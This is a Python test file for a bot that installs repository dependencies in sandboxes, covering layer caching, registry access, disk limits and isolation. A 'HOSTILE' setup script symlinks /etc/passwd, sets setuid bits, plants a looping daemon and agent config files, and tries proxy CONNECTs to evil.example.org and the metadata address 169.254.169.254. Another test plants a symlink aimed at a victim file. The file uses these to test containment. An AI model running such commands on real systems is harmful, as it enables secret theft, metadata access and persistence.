"""Setting a repository up, in real boxes with a real pip and an index on loopback: once, whole, harmless, apart."""

from __future__ import annotations

import asyncio
import os
from collections.abc import Iterator
from contextlib import AbstractAsyncContextManager
from dataclasses import replace
from pathlib import Path

import pytest

from bot.core.config import RepoConfig
from bot.core.values import Repo
from bot.errors import RetryableError
from bot.gateway.egress import EgressProxy
from bot.git.glance import glancing
from bot.git.worktrees import task_policy
from bot.jobs.dependencies import Ready
from bot.jobs.layers import Layers
from tests.jobs.setting_up import PATH, WHEN, WHO, Ground, ground
from tests.support.disks import small_disk
from tests.support.index import Index, index
from tests.support.ordinary import only_root
from tests.support.walls import walls

TEST = "python -m unittest discover -s tests -t ."
CHEAP = "echo made >made"  # hangs on the manifests as pip does, and takes no time
INSTALL = "python -m pip install -q -r requirements.txt"
PROJECT = {
    "requirements.txt": "greetlib==1.0\n",
    "app.py": "import greetlib\n\n\ndef greet():\n    return greetlib.WORD\n",
    "tests/__init__.py": "",
    "tests/test_app.py": "import unittest\n\nfrom app import greet\n\n\nclass T(unittest.TestCase):\n"
    "    def test_greet(self):\n        self.assertEqual(greet(), 'hello')\n",
}


@pytest.fixture(scope="module")
def served() -> Iterator[Index]:
    with index() as made:
        made.add_wheel("greetlib", "1.0", {"greetlib.py": "WORD = 'hello'\n"})
        made.add_wheel("greetlib", "2.0", {"greetlib.py": "WORD = 'hello'\nNEW = True\n"})
        made.add_wheel("pytest", "9.0", {"pytest.py": ""})
        yield made


@pytest.fixture
async def place(tmp_path: Path, served: Index) -> Ground:
    served.asked.clear()
    return await ground(tmp_path / "data", await walls(), served)


def layers(place: Ground) -> list[str]:
    root = place.layers.root
    return sorted(str(path.relative_to(root)) for path in root.glob("*/*"))


async def test_tests_find_what_was_installed_once_and_reach_nothing_themselves(
    place: Ground, served: Index
) -> None:
    base = await place.commit(PROJECT)
    bare = await place.verifier.run(place.mirror, "v", base, TEST, setup="none")
    assert (bare.result.state, bare.set_up) == ("red", None)
    seen = await place.verifier.run(place.mirror, "v", base, TEST, setup=INSTALL)
    assert seen.result.state == "green", seen.output
    assert seen.set_up is not None
    assert (seen.set_up.wrong, seen.set_up.again, seen.set_up.bytes > 0) == ("", False, True)
    fetched = list(served.asked)
    assert "/files/greetlib-1.0-py3-none-any.whl" in fetched

    # Other files, the same manifests: what is there is used again.
    later = await place.commit({"app.py": PROJECT["app.py"] + "\nMORE = 1\n"}, base)
    again = await place.verifier.run(place.mirror, "v", later, TEST, setup=INSTALL, base=base)
    assert (again.result.state, again.set_up and again.set_up.again) == ("green", True)
    assert served.asked == fetched
    reached = await place.verifier.run(
        place.mirror,
        "v",
        base,
        f"python -m pip download --no-deps -i {served.url}/simple greetlib",
        setup=INSTALL,
    )
    assert reached.result.state != "green"
    assert served.asked == fetched

    # Another lock file: set up anew.
    moved = await place.commit({"requirements.txt": "greetlib==2.0\n"}, base)
    check = "python -c 'import greetlib; assert greetlib.NEW'"
    newer = await place.verifier.run(place.mirror, "v", moved, check, setup=INSTALL)
    assert newer.result.state == "green", newer.output
    assert "/files/greetlib-2.0-py3-none-any.whl" in served.asked
    assert len(layers(place)) == 2


@pytest.mark.parametrize(
    ("setup", "languages"), [(CHEAP, {"Python"}), (f"npx --version; {CHEAP}", {"Python", "JavaScript"})]
)
async def test_the_bases_manifests_and_peoples_command_open_registries_and_no_agents_commit(
    place: Ground, setup: str, languages: set[str]
) -> None:
    opened: list[frozenset[str]] = []

    def network(folder: Path, named: frozenset[str]) -> AbstractAsyncContextManager[EgressProxy]:
        opened.append(named)
        return place.dependencies.network(folder, named)

    lending = replace(place.dependencies, network=network)
    base = await place.commit({"requirements.txt": "", "a.py": ""})
    await lending.ready(place.at(base), setup)
    changed = await place.commit({"package.json": "{}", "go.mod": "module x\n"}, base)
    await lending.ready(place.at(changed, base), setup)
    assert opened == [languages, languages]
    await lending.ready(place.at(changed), setup)  # once people merged it
    assert opened[2:] == [{*languages, "JavaScript", "Go"}]


async def test_what_was_detected_in_an_agents_commit_opens_no_registry(place: Ground) -> None:
    opened: list[frozenset[str]] = []

    def network(folder: Path, named: frozenset[str]) -> AbstractAsyncContextManager[EgressProxy]:
        opened.append(named)
        return place.dependencies.network(folder, named)

    lending = replace(place.dependencies, network=network)
    base = await place.commit({"requirements.txt": "", "a.py": ""})
    changed = await place.commit({"package.json": '{"dependencies": {"left-pad": "1"}}'}, base)
    ready = await lending.wanted(place.at(changed, base), "Cannot find module 'left-pad'")
    assert ready is not None
    assert (ready.made.command, opened) == (
        "python -m pip install -q -r requirements.txt\npython -c 'import pytest' 2>/dev/null || python -m pip install -q pytest\n"
        "npm install --no-package-lock",
        [frozenset({"Python"})],
    )
    assert ready.made.wrong


@pytest.mark.long
async def test_without_a_setup_what_is_detected_is_installed_only_where_packages_are_missing(
    place: Ground, served: Index
) -> None:
    green = await place.commit({"requirements.txt": "greetlib==1.0\n", "tests/__init__.py": ""})
    assert (await place.verifier.run(place.mirror, "v", green, "true")).set_up is None
    assert await place.dependencies.known(place.at(green)) is None
    assert served.asked == []

    base = await place.commit(PROJECT)
    off = await place.verifier.run(place.mirror, "v", base, TEST, setup="none")
    assert (off.result.state, off.set_up) == ("red", None)
    assert served.asked == []
    seen = await place.verifier.run(place.mirror, "v", base, TEST)
    assert seen.result.state == "green", seen.output
    assert seen.set_up is not None
    assert (seen.set_up.detected, seen.set_up.wrong) == (True, "")
    # From now on it is known that they are needed: for tests, and for agents.
    known = await place.dependencies.for_work(place.at(base), RepoConfig(test=TEST), ["app.py"])
    assert known is not None
    assert known.made.again
    off_too = RepoConfig(test=TEST, setup="none")
    assert await place.dependencies.for_work(place.at(base), off_too, ["app.py"]) is None


@pytest.mark.long
async def test_a_detected_set_up_that_fails_leaves_the_tests_their_say(place: Ground) -> None:
    lacking = await place.commit({**PROJECT, "requirements.txt": "nobody-has-this\n"})
    seen = await place.verifier.run(place.mirror, "v", lacking, TEST)
    assert seen.result.state == "red"
    assert seen.set_up is not None
    assert seen.set_up.wrong == "it ended with exit code 1"
    assert "nobody-has-this" in seen.set_up.output
    assert layers(place) == []


async def test_what_an_agent_changed_is_installed_for_its_commit_alone(place: Ground) -> None:
    base = await place.commit(PROJECT)
    ready = await place.dependencies.ready(place.at(base), CHEAP)
    changed = await place.commit({"requirements.txt": "greetlib==2.0\n"}, base)
    own = await place.dependencies.ready(place.at(changed, base), CHEAP)
    assert own.layer is not None
    assert ready.layer is not None
    assert own.layer.folder != ready.layer.folder
    # The same manifests on the default branch later: nothing that an agent's commit wrote is used.
    merged = await place.dependencies.ready(place.at(changed), CHEAP)
    assert merged.layer is not None
    assert merged.layer.folder not in {own.layer.folder, ready.layer.folder}
    assert not merged.made.again
    # A commit of an agent that needs what the base needs gets what the base's own set-up wrote.
    plain = await place.commit({"app.py": "import os; os.abort()\n"}, base)
    assert (await place.dependencies.ready(place.at(plain, base), CHEAP)).layer == ready.layer


async def test_of_several_that_ask_at_once_one_sets_up_and_a_failure_is_shared(
    place: Ground,
) -> None:
    base = await place.commit(PROJECT)
    found = await asyncio.gather(*(place.dependencies.ready(place.at(base), CHEAP) for _ in range(3)))
    assert sorted(each.made.again for each in found) == [False, True, True]
    assert len(layers(place)) == 1
    script = "echo >begun; while [ ! -e go ]; do sleep 0.02; done; echo tried; exit 3"
    asking = [asyncio.create_task(place.dependencies.ready(place.at(base), script)) for _ in range(3)]
    (await _begun_while_two_wait(place) / "go").touch()
    failed = await asyncio.gather(*asking)
    assert [each.made.wrong for each in failed] == ["it ended with exit code 3"] * 3
    assert len({id(each.made) for each in failed}) == 1
    assert [each.layer for each in failed] == [None] * 3
    assert place.worktrees.names("setup-") == []
    assert len(place.dependencies._building) == 0  # nothing is kept for those who do not wait


async def _begun_while_two_wait(place: Ground) -> Path:
    """Give the folder of the one set-up that has begun, once two more wait for it."""
    async with asyncio.timeout(60):
        while True:
            begun = list(place.layers.root.parent.glob("tasks/setup-*/wt/begun"))
            waiting = [len(each.lock._waiters or ()) for each in place.dependencies._building.values()]
            if begun and waiting == [2]:
                return begun[0].parent
            await asyncio.sleep(0.01)


async def test_a_failure_is_shared_with_nobody_of_another_repository(place: Ground) -> None:
    """What a set-up printed may be a private repository's words."""
    mirror = await place.worktrees.mirror(Repo(8, "o", "other", "main", private=True))
    other = Ground(place.dependencies, place.worktrees, mirror)
    at = [each.at(await each.commit(PROJECT)) for each in (place, other)]
    failing = "echo tried; exit 3"
    mine, theirs = await asyncio.gather(*(place.dependencies.ready(each, failing) for each in at))
    assert mine.made.wrong == theirs.made.wrong == "it ended with exit code 3"
    assert mine is not theirs


async def test_a_set_up_that_cannot_be_kept_leaves_no_worktree(place: Ground) -> None:
    base = await place.commit(PROJECT)
    place.layers.root.mkdir()
    (place.layers.root / "7").write_text("no folder")
    with pytest.raises(OSError, match="7"):
        await place.dependencies.ready(place.at(base), CHEAP)
    assert place.worktrees.names("") == []


async def test_slow_set_ups_of_one_repository_do_not_hold_up_another(place: Ground) -> None:
    base = await place.commit(PROJECT)
    slow = [
        asyncio.create_task(place.dependencies.ready(place.at(base), f"sleep 300; echo {n}"))
        for n in range(2)
    ]
    mirror = await place.worktrees.mirror(Repo(8, "o", "other", "main", private=True))
    other = Ground(place.dependencies, place.worktrees, mirror)
    base = await other.commit(PROJECT)
    async with asyncio.timeout(90):
        assert (await other.dependencies.ready(other.at(base), CHEAP)).made.wrong == ""
    for each in slow:
        each.cancel()
    await asyncio.gather(*slow, return_exceptions=True)
    assert place.worktrees.names("") == []


HOSTILE = """
ln -s /etc/passwd stolen; ln -s "$1" out; ln -s / "$HOME/root"; mkdir -p "$HOME/.config" && ln -s /etc "$HOME/.config/git"
mkfifo pipe; printf x >plain; chmod 6777 plain; mkdir shut && printf x >shut/in && chmod 0 shut
python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.bind("sock")'
mknod device c 1 3 || echo no device
echo changed >>app.py
echo '[user]' >"$HOME/.gitconfig"; mkdir -p "$HOME/.claude" && echo '{}' >"$HOME/.claude/settings.json"
setsid sh -c 'exec >>"$HOME/daemon"; while :; do echo alive; sleep 0.05; done' >/dev/null 2>&1 &
python3 - <<'END'
import http.client, os
proxy = os.environ["https_proxy"].removeprefix("http://")
for host in ("evil.example.org:443", "169.254.169.254:80"):
    connection = http.client.HTTPConnection(proxy, timeout=60)
    connection.request("CONNECT", host)
    print(host, connection.getresponse().status)
END
while [ ! -e "$HOME/daemon" ]; do sleep 0.01; done
exit 0
"""


async def test_a_hostile_set_up_leaves_nothing_that_leads_out(place: Ground, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("host")
    base = await place.commit(PROJECT)
    setup = HOSTILE.replace("$1", str(secret))
    ready = await place.dependencies.ready(place.at(base), setup)
    assert ready.made.wrong == "", ready.made.output
    assert set(ready.made.refused) == {"evil.example.org", "169.254.169.254"}
    assert ready.made.put_back == ("app.py",)
    assert set(ready.made.dropped) == {"pipe", "sock"}
    async with place.laid(ready, base) as worktree:
        assert (worktree.path / "app.py").read_text() == PROJECT["app.py"]
        assert str((worktree.path / "out").readlink()) == str(
            secret
        )  # as it was written, and nobody followed it
        assert str((worktree.home / "root").readlink()) == "/"
        modes = {path.name: path.lstat().st_mode & 0o7777 for path in worktree.path.iterdir()}
        assert modes["plain"] & 0o6000 == 0
        assert modes["shut"] & 0o700 == 0o700
        assert {"pipe", "sock", "device"}.isdisjoint(modes)
        assert not any(os.path.lexists(worktree.home / n) for n in (".gitconfig", ".claude", ".config/git"))
        grown = (worktree.home / "daemon").stat().st_size
        await asyncio.sleep(0.2)
        assert ready.layer is not None
        assert (ready.layer.home / "daemon").stat().st_size == grown
    assert secret.read_text() == "host"


async def test_a_set_up_that_fills_the_disk_or_does_not_end_is_ended(tmp_path: Path, served: Index) -> None:
    box = await walls()
    small = await ground(tmp_path / "small", box, served, most=4 << 20)
    base = await small.commit(PROJECT)
    filling = "i=0; while :; do head -c 1000000 /dev/zero >big-$i; i=$((i+1)); sleep 0.05; done"
    full = await small.dependencies.ready(small.at(base), filling)
    assert full.made.wrong == "it wrote more than 4 MB"
    many = await ground(tmp_path / "many", box, served, most_files=2_000)
    base = await many.commit(PROJECT)
    empty = "python3 -c 'for n in range(3000): open(str(n), chr(119)).close()'; sleep 600"
    names = await many.dependencies.ready(many.at(base), empty)
    assert names.made.wrong == "it wrote more than 2,000 files"
    assert names.made.seconds < 500  # it was ended, and did not end
    for seconds in (1, 20):  # which a busy machine may need for the first word
        slow = await ground(tmp_path / f"slow-{seconds}", box, served, timeout=seconds)
        base = await slow.commit(PROJECT)
        stuck = await slow.dependencies.ready(slow.at(base), "echo working; sleep 60")
        assert stuck.made.wrong == f"it did not end within {seconds} seconds"
        if "working" in stuck.made.output:
            break
    assert "working" in stuck.made.output
    for each in (small, many, slow):
        assert layers(each) == []
        assert each.worktrees.names("") == []


@only_root
async def test_a_set_up_and_tests_that_leave_no_room_on_the_disk_have_failed(
    tmp_path: Path, served: Index
) -> None:
    # It leaves some of the 64 MiB, of which the bot itself needs some to tell of it.
    filling = "i=0; while [ $i -lt 58 ] && head -c 1048576 /dev/zero >>much; do i=$((i+1)); done; sleep 100"
    with small_disk(tmp_path / "disk") as disk:
        place = await ground(disk / "data", await walls(), served)
        base = await place.commit(PROJECT)
        full = await place.dependencies.ready(place.at(base), filling)
        assert full.made.wrong == "it left too little room on the disk"
        assert layers(place) == []
        seen = await place.verifier.run(place.mirror, "v", base, filling, setup=CHEAP)
        assert seen.result.state == "broken"
        assert "disk is nearly full" in seen.output
        assert seen.set_up is not None
        assert seen.set_up.wrong == ""
        assert place.worktrees.names("") == []


async def test_two_tasks_share_no_file_of_what_was_laid(place: Ground) -> None:
    base = await place.commit(PROJECT)
    ready = await place.dependencies.ready(
        place.at(base), "echo one >made; ln made twin; mkdir d; echo x >d/y"
    )
    async with place.laid(ready, base, "one") as one, place.laid(ready, base, "two") as two:
        assert (one.path / "made").stat().st_ino != (two.path / "made").stat().st_ino
        assert (one.path / "made").stat().st_ino == (one.path / "twin").stat().st_ino
        (one.path / "made").write_text("hostile")
        assert ready.layer is not None
        for clean in (two.path, ready.layer.work):
            assert (clean / "made").read_text() == "one\n"


async def test_what_is_laid_for_the_next_model_goes_through_no_link_that_an_agent_left(
    place: Ground, tmp_path: Path
) -> None:
    base = await place.commit(PROJECT)
    setup = "echo x >made; mkdir -p ~/.cache; echo x >~/.cache/x"
    ready = await place.dependencies.ready(place.at(base), setup)
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    async with place.laid(ready, base) as worktree:
        shown = task_policy(worktree, place.mirror, path=PATH)
        async with place.dependencies.sandbox.open(shown) as box:
            planted = "rm /scratch.git/info/exclude made; ln -s {0} /scratch.git/info/exclude; ln -s {0} made"
            done = await box.run(["sh", "-c", planted.format(victim)], timeout=60)
        assert done.code == 0, done.output
        assert (worktree.scratch_git / "info/exclude").read_text() == "precious\n"  # the link leads there
        home = worktree.folder / "second"
        home.mkdir()
        made = await place.dependencies.lay(ready, place.mirror, worktree, home)
        assert made.wrong == ""
        assert (home / ".cache/x").read_text() == "x\n"
        worktree.leave_out(["other"])  # not even where it is asked for
        assert (worktree.scratch_git / "info/exclude").read_text() == "/other\n"
    assert victim.read_text() == "precious\n"


async def test_what_was_laid_is_not_taken_in_and_not_shown_as_new(place: Ground) -> None:
    base = await place.commit({**PROJECT, "src/a.py": ""})
    setup = "mkdir -p built 'odd [name]' src/gen; echo x >built/x; echo x >'odd [name]/x'; echo x >src/gen/x"
    ready = await place.dependencies.ready(place.at(base), setup)
    async with place.laid(ready, base) as worktree:
        (worktree.path / "built/more").write_text("by an agent")
        (worktree.path / "src/new.py").write_text("NEW = 1\n")
        ingested = await worktree.ingest("New", WHO, WHEN, {})
        assert ingested.changed == ("src/new.py",)
        excluded = (worktree.scratch_git / "info/exclude").read_text()
    assert excluded == "/built\n/odd\\ \\[name]\n/src/gen\n"


async def test_a_place_that_a_commit_has_itself_stays_the_commits(place: Ground) -> None:
    base = await place.commit(PROJECT)
    ready = await place.dependencies.ready(place.at(base), "mkdir built; echo layer >built/x; echo layer >y")
    theirs = await place.commit({"built": "a file now\n", "y": "theirs\n"}, base)
    async with place.laid(ready, theirs) as worktree:
        assert (worktree.path / "built").read_text() == "a file now\n"
        assert (worktree.path / "y").read_text() == "theirs\n"
        (worktree.path / "y").write_text("changed\n")
        ingested = await worktree.ingest("Y", WHO, WHEN, {})
        assert ingested.changed == ("y",)


async def test_an_agent_gets_what_the_base_needs_where_its_own_manifests_cannot_be_set_up(
    place: Ground,
) -> None:
    base = await place.commit(PROJECT)
    broken = await place.commit({"requirements.txt": "<<<<<<< ours\n"}, base)
    setup = "if grep -q ours requirements.txt; then exit 1; fi; echo made >made"
    config = RepoConfig(test=TEST, setup=setup)
    usual = await place.dependencies.ready(place.at(base), setup)
    for torn in (True, False):
        found = await place.dependencies.for_work(place.at(broken, base), config, ["app.py"], torn=torn)
        assert isinstance(found, Ready)
        assert found.layer == usual.layer


async def test_a_half_made_layer_is_never_found_and_the_oldest_go_first(place: Ground) -> None:
    base = await place.commit(PROJECT)
    half = Layers(place.layers.root, place.layers.most_bytes).begin("7")
    (half / "work/x").write_text("x")
    assert place.layers.sweep() == [half.name]
    made = [await place.dependencies.ready(place.at(base), f"echo {n} >n") for n in range(3)]
    for number, each in enumerate(made):
        assert each.layer is not None
        os.utime(each.layer.folder / "layer.json", (number, number))
    assert place.layers.prune() == []
    assert made[0].layer is not None
    assert made[1].layer is not None
    few = Layers(place.layers.root, 2)
    with few.using(made[0].layer):
        assert few.prune() == [f"7/{made[1].layer.folder.name}"]
    assert made[0].layer.folder.is_dir()
    # One that was found and then removed is told as such, and never copied in part.
    worktree = await place.worktrees.create(place.mirror, "late", base)
    with pytest.raises(RetryableError, match="removed meanwhile"):
        await place.dependencies.lay(made[1], place.mirror, worktree, worktree.home)
    assert not (worktree.path / "n").exists()
    assert await place.worktrees.cleanup("late") == []
    place.layers.forget("7")
    assert not place.layers.any("7")


async def test_a_layer_with_a_name_that_is_no_text_is_found_and_counted_and_one_that_cannot_be_read_goes(
    place: Ground,
) -> None:
    base = await place.commit(PROJECT)
    setup = "printf x > \"$(printf 'bad\\377')\"; echo ran"
    made = await place.dependencies.ready(place.at(base), setup)
    assert made.places == (os.fsdecode(b"bad\xff"),)
    assert (await place.dependencies.ready(place.at(base), setup)).made.again
    assert place.layers.total() == 1
    async with place.laid(made, base) as worktree:
        assert (worktree.path / os.fsdecode(b"bad\xff")).read_text() == "x"
    for text in ("", "{}", "[", '{"made": {"command": 7}}'):
        broken = place.layers.root / "7" / f"k{len(text)}"
        (broken / "work").mkdir(parents=True)
        (broken / "layer.json").write_text(text)
        assert place.layers.find("7", broken.name) is None
    (place.layers.root / "7/none").mkdir()
    assert sorted(place.layers.prune()) == sorted(["7/none", *(f"7/k{n}" for n in (0, 1, 2, 24))])
    assert place.layers.prune() == []
    assert (await place.dependencies.ready(place.at(base), setup)).made.again


async def test_a_look_at_the_worktree_does_not_take_what_is_laid_for_a_change(place: Ground) -> None:
    base = await place.commit({**PROJECT, "src/a.py": ""})
    setup = "mkdir -p built src/gen; echo x >built/x; echo x >src/gen/x; echo x >loose"
    ready = await place.dependencies.ready(place.at(base), setup)
    worktree = await place.worktrees.create(place.mirror, "t", base)
    folder = worktree.path.parent / "glance"
    async with glancing(place.dependencies.sandbox, worktree.path, folder, ready.places) as glance:
        before = await glance()
        assert (await place.dependencies.lay(ready, place.mirror, worktree, worktree.home)).wrong == ""
        assert (worktree.path / "src/gen/x").exists()
        assert await glance() == before
        (worktree.path / "src/new.py").write_text("by an agent")
        assert await glance() != before
    assert await place.worktrees.cleanup("t") == []
